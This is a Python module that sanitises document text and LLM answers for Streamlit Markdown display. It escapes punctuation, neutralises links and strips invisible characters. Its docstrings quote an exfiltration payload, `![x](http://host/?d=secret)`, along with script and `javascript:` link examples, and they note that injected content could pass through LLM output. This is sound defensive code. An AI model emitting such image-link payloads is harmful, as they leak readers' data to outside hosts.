"""Document and LLM text made safe to show through Markdown (Streamlit, exported files).

Streamlit escapes raw HTML in `st.markdown`, but it still renders Markdown images and links: a
document containing `![x](http://host/?d=secret)` would make every reader's browser fetch that URL
the moment the passage is shown. So text that did not come from us is never trusted as Markdown:
every ASCII punctuation character Markdown (or Streamlit's directives, LaTeX and emoji shortcodes)
could interpret is backslash-escaped — CommonMark defines a backslash before any ASCII punctuation
as that literal character — which turns `<script>`, `![x](url)`, `[x](javascript:…)`, bare URLs
(`http\\://` and `www\\.` no longer autolink) and `$…$` into the characters they are.
Highlights are our own Markup, wrapped around escaped text.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterable, Sequence
from typing import Literal

MarkStyle = Literal["streamlit", "plain"]

# Every ASCII punctuation character: all of them are escapable in CommonMark, and escaping all of
# them (not a hand-picked subset) leaves no construct to forget (tables, autolinks, directives, …).
_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
# Characters that reorder or hide text (bidi overrides, zero-width) could make a passage display
# something other than what it says; C0/C1 controls have no business in displayed text.
_INVISIBLE = re.compile(
    "[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]"
)
_SPACES = re.compile(r"[ \u00a0]{2,}")
_MARKER = re.compile(r"\\\[(S?\d+)\\\]")  # an escaped citation marker "[3]" / "[S3]"
_WHITESPACE = re.compile(r"(\s+)")
# What GitHub-flavoured Markdown would autolink: a scheme ("http://", "mailto:"), "www.", an e-mail.
_LINKISH = re.compile(r"(?i)[a-z][a-z0-9+.-]*:/|www\.|\b(?:mailto|xmpp|javascript|data|file|tel):|[-.\w+]@[-\w]+\.[-\w]")
TAB_SEPARATOR = " │ "  # tab-separated appendix rows stay readable as columns


def clean_text(text: str) -> str:
    """NFC text without invisible/control characters; tabs become a visible column separator."""
    text = unicodedata.normalize("NFC", text).replace("\r\n", "\n").replace("\r", "\n")
    return _INVISIBLE.sub("", text).replace("\t", TAB_SEPARATOR)


def _escape_chars(text: str) -> str:
    return "".join("\\" + ch if ch in _PUNCTUATION else ch for ch in text)


def _code_span(token: str) -> str:
    """`token` as an inline code span: literal, and never turned into a link."""
    longest = max((len(run) for run in re.findall(r"`+", token)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if token.startswith("`") or token.endswith("`") else ""
    return f"{fence}{pad}{token}{pad}{fence}"


def _escape(text: str) -> str:
    """Literal Markdown for `text`; URL- and e-mail-like words become code spans.

    Escaping is not enough for those: Streamlit (remark-gfm) turns `http://…`, `www.…` and
    `a@b.vn` in the *parsed* text into links, after backslash escapes are gone. Code spans are
    not text nodes, so nothing there becomes a link.
    """
    out: list[str] = []
    for piece in _WHITESPACE.split(text):
        if not piece or piece.isspace():
            out.append(piece)
        elif _LINKISH.search(piece):
            out.append(_code_span(piece))
        else:
            out.append(_escape_chars(piece))
    return "".join(out)


def escape_markdown(text: str) -> str:
    """One line of literal text for Markdown (labels, titles, captions): nothing in it is markup."""
    flat = " ".join(clean_text(text).split())
    return _escape(flat)


def _line(text: str) -> str:
    # Leading spaces would start an indented code block; the indentation carries no meaning here.
    return _escape(_SPACES.sub(" ", text.strip()))


def merge_spans(spans: Iterable[Sequence[int]], length: int) -> list[tuple[int, int]]:
    """Sorted, clipped, non-overlapping, non-empty spans."""
    clipped = sorted((max(0, int(s[0])), min(length, int(s[1]))) for s in spans if len(s) >= 2)
    merged: list[tuple[int, int]] = []
    for start, end in clipped:
        if end <= start:
            continue
        if merged and start <= merged[-1][1]:
            merged[-1] = (merged[-1][0], max(end, merged[-1][1]))
        else:
            merged.append((start, end))
    return merged


def _wrap(escaped: str, opening: str, closing: str) -> str:
    """Markup around escaped text; its outer spaces stay outside (emphasis cannot start with one)."""
    core = escaped.strip()
    if not core:
        return escaped
    lead = escaped[: len(escaped) - len(escaped.lstrip())]
    trail = escaped[len(escaped.rstrip()) :]
    return f"{lead}{opening}{core}{closing}{trail}"


def _segments(
    text: str, highlights: Iterable[Sequence[int]], strong: Iterable[Sequence[int]]
) -> list[tuple[str, bool, bool]]:
    """`text` cut at every span boundary: (piece, highlighted, strong)."""
    marked = merge_spans(highlights, len(text))
    bold = merge_spans(strong, len(text))
    cuts = sorted({0, len(text), *(p for span in (*marked, *bold) for p in span)})

    def inside(spans: list[tuple[int, int]], pos: int) -> bool:
        return any(a <= pos < b for a, b in spans)

    return [(text[a:b], inside(marked, a), inside(bold, a)) for a, b in zip(cuts, cuts[1:]) if b > a]


def _render_line(segments: list[tuple[str, bool, bool]], style: MarkStyle) -> str:
    raw = "".join(seg for seg, _, _ in segments)
    # Trim the line's outer whitespace once, keeping segment boundaries (and so the marks).
    lead, keep_until = len(raw) - len(raw.lstrip()), len(raw.rstrip())
    trimmed: list[tuple[str, bool, bool]] = []
    offset = 0
    for seg, marked, bold in segments:
        a, b = offset, offset + len(seg)
        offset = b
        a2, b2 = max(a, lead), min(b, keep_until)
        if b2 > a2:
            trimmed.append((_SPACES.sub(" ", seg[a2 - a : b2 - a]), marked, bold))
    out: list[str] = []
    i = 0
    while i < len(trimmed):
        marked = trimmed[i][1]
        group = []
        while i < len(trimmed) and trimmed[i][1] == marked:
            group.append(trimmed[i])
            i += 1
        if marked and style == "plain":
            out.append(_wrap(_escape("".join(seg for seg, _, _ in group)), "**", "**"))
            continue
        inner = "".join(_wrap(_escape(seg), "**", "**") if bold else _escape(seg) for seg, _, bold in group)
        out.append(_wrap(inner, ":orange-background[", "]") if marked else inner)
    return "".join(out)


def markdown_block(
    text: str,
    highlights: Iterable[Sequence[int]] = (),
    *,
    strong: Iterable[Sequence[int]] = (),
    style: MarkStyle = "streamlit",
) -> str:
    """A passage as literal Markdown, line breaks kept, `highlights` marked and `strong` in bold.

    Spans index the original `text` (as `Citation.highlights` do); they are applied before any
    cleaning so offsets stay exact. In the app a highlight is a background colour (the cited
    sentence) and `strong` bold (its figures); in the plain style (exported files) a highlight is
    bold. Marks never cross a line: Markdown emphasis cannot.
    """
    lines: list[list[tuple[str, bool, bool]]] = [[]]
    for piece, marked, bold in _segments(text, highlights, strong):
        for i, part in enumerate(clean_text(piece).split("\n")):
            if i:
                lines.append([])
            if part:
                lines[-1].append((part, marked, bold))
    out = [
        _render_line(segments, style) if "".join(seg for seg, _, _ in segments).strip() else ""
        for segments in lines
    ]
    return _join_lines(out)


def _join_lines(lines: list[str]) -> str:
    """Single newlines become hard breaks, runs of blank lines one paragraph break."""
    blocks: list[list[str]] = [[]]
    for line in lines:
        if line:
            blocks[-1].append(line)
        elif blocks[-1]:
            blocks.append([])
    return "\n\n".join("  \n".join(block) for block in blocks if block)


def plain_block(text: str) -> str:
    """A passage as literal Markdown with its line breaks, nothing highlighted."""
    return markdown_block(text, ())


def answer_markdown(
    text: str, *, strong: Iterable[Sequence[int]] = (), style: MarkStyle = "streamlit"
) -> str:
    """An answer (extractive or from an LLM) as literal Markdown; [n] markers and `strong` spans stand out.

    LLM output is untrusted like document text: it may repeat an injected `![x](url)`, so it gets
    no Markdown of its own.
    """
    body = markdown_block(text, (), strong=strong, style=style)
    if style == "streamlit":
        return _MARKER.sub(lambda m: f":blue-background[**\\[{m.group(1)}\\]**]", body)
    return _MARKER.sub(lambda m: f"**\\[{m.group(1)}\\]**", body)


def quote_block(markdown: str) -> str:
    """Prefix every line with `> ` (the text must already be escaped)."""
    return "\n".join(f"> {line}" if line else ">" for line in markdown.split("\n"))
